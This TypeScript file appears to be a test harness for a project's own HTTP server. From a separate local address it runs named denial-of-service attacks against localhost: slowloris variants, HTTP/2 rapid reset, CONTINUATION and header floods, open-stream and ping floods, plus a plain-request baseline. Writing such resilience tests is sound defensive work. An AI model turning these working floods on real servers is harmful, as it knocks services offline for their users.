/** A hostile client in a process of its own: `attacker.ts NAME PORT MILLISECONDS`, from 127.0.0.2. */
import { connect, type Socket } from "node:net";
import { Readable } from "node:stream";
import { pipeline } from "node:stream/promises";
import {
  flag,
  frame,
  frameType,
  getRequest,
  headerBlock,
  opening,
  reset,
} from "@headscale/server/edge/testing/http2-frames";

const [name = "", port = "", duration = ""] = process.argv.slice(2);
const until = performance.now() + Number(duration);
const odd = (n: number) => n * 2 - 1;

function dial(): Socket {
  return connect({ port: Number(port), host: "127.0.0.1", localAddress: "127.0.0.2", noDelay: true }).on(
    "error",
    () => {},
  );
}

/** Says `bytes(1)`, `bytes(2)`, … on one connection after another until the time is over. */
async function flood(bytes: (n: number) => Uint8Array): Promise<void> {
  while (performance.now() < until) {
    const socket = dial().resume();
    const lines = Readable.from(
      (function* () {
        yield opening;
        for (let n = 1; performance.now() < until; n++) yield bytes(n);
      })(),
      { objectMode: false },
    );
    await pipeline(lines, socket).catch(() => {});
    socket.destroy();
  }
}

/** Many connections that each say one more byte now and then. */
async function slowLoris(count: number, beginning: string, byte: string): Promise<void> {
  const sockets = new Set<Socket>();
  while (performance.now() < until) {
    while (sockets.size < count) {
      const socket = dial();
      sockets.add(socket);
      socket
        .once("close", () => sockets.delete(socket))
        .resume()
        .write(beginning);
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    for (const socket of sockets) socket.write(byte);
  }
  for (const socket of sockets) socket.destroy();
}

const field = headerBlock("GET", { x: "x".repeat(1_000) }).subarray(3);
const manyFields = headerBlock("GET", Object.fromEntries(Array.from({ length: 300 }, (_, n) => [`x-${n}`, "1"])));

const attacks: Readonly<Record<string, () => Promise<void>>> = {
  "half-open": () => slowLoris(1_000, "P", ""),
  "half-a-head": () => slowLoris(1_000, "GET / HTTP/1.1\r\nHost: a\r\nX: ", "x"),
  "rapid-reset": () => flood((n) => Buffer.concat([getRequest(odd(n)), reset(odd(n))])),
  "open-streams": () => flood((n) => frame(frameType.headers, flag.endHeaders, odd(n), headerBlock("POST"))),
  continuation: () =>
    flood((n) =>
      frame(n === 1 ? frameType.headers : frameType.continuation, 0, 1, n === 1 ? headerBlock("GET") : field),
    ),
  "many-fields": () => flood((n) => frame(frameType.headers, flag.endHeaders | flag.endStream, odd(n), manyFields)),
  /** No attack, but as many requests as one connection can carry: what the rows above compare with. */
  requests: () => flood((n) => getRequest(odd(n))),
  ping: () => flood(() => frame(frameType.ping, 0, 0, new Uint8Array(8))),
};

await attacks[name]?.();
process.exit(0);
